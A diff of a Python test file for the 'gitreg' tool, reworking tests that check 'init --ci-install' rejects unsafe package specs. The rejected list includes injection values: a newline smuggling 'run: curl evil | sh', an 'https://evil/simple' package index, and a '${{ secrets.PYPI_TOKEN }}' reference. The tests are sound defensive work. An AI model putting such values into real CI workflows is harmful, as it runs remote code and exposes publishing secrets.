@@ -17,7 +17,7 @@ import yaml
 
 from gitreg import Registry, ci
 from gitreg.config import Config
-from tests.conftest import git, snapshot
+from tests.conftest import Invoker, git, snapshot
 
 REPOSITORY = Path(__file__).resolve().parent.parent
 BIN = Path(sys.executable).parent
@@ -161,17 +161,19 @@ def test_ci_install_repins_config_and_both_workflows_in_one_commit(registry, run
     assert snapshot(root) == before, "a deleted workflow comes back with the registry's pin"
 
 
-@pytest.mark.parametrize("spec", [
-    "gitreg", "GitReg==0.0.1", "gitreg_ ", "gitreg==0.0.1@x", "-r requirements.txt", "--index-url https://evil/simple gitreg-dvc",
-    "gitreg-dvc==0.1.0\nrun: curl evil | sh", "${{ secrets.PYPI_TOKEN }}", " ", "x" * 1001,
-])
-def test_ci_install_refuses_what_is_not_one_safe_requirement(registry, run, tmp_path, spec):
+REFUSED = ["gitreg", "GitReg==0.0.1", "gitreg_ ", "gitreg==0.0.1@x", "-r requirements.txt",
+           "--index-url https://evil/simple gitreg-dvc", "gitreg-dvc==0.1.0\nrun: curl evil | sh",
+           "${{ secrets.PYPI_TOKEN }}", " ", "x" * 1001]
+
+
+def test_ci_install_refuses_what_is_not_one_safe_requirement(registry, run, tmp_path):
     before = snapshot(registry.root)
-    result = run("init", "--ci-install", spec, expect=4)
-    assert result.output.startswith("error: --ci-install") and result.output.count("\n") == 1
+    for spec in REFUSED:
+        result = run("init", "--ci-install", spec, expect=4)
+        assert result.output.startswith("error: --ci-install") and result.output.count("\n") == 1, spec
+        run("init", str(tmp_path / "new"), "--ci-install", spec, expect=4)
+        assert not (tmp_path / "new").exists(), spec
     assert snapshot(registry.root) == before
-    run("init", str(tmp_path / "new"), "--ci-install", spec, expect=4)
-    assert not (tmp_path / "new").exists()
 
 
 def test_ci_install_refuses_to_commit_or_lose_an_uncommitted_edit_of_a_workflow(registry, run):
@@ -226,8 +228,8 @@ def test_the_default_pin_is_this_distribution_exactly():
     assert scripts == {"gitreg": "gitreg.cli:main"}
 
 
-def test_gitreg_version_names_the_command_and_the_installed_release(run):
-    assert run("--version").output == f"gitreg, version {metadata.version('gitreg-dvc')}\n"
+def test_gitreg_version_names_the_command_and_the_installed_release(tmp_path):
+    assert Invoker(tmp_path)("--version").output == f"gitreg, version {metadata.version('gitreg-dvc')}\n"
 
 
 def _run_step(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
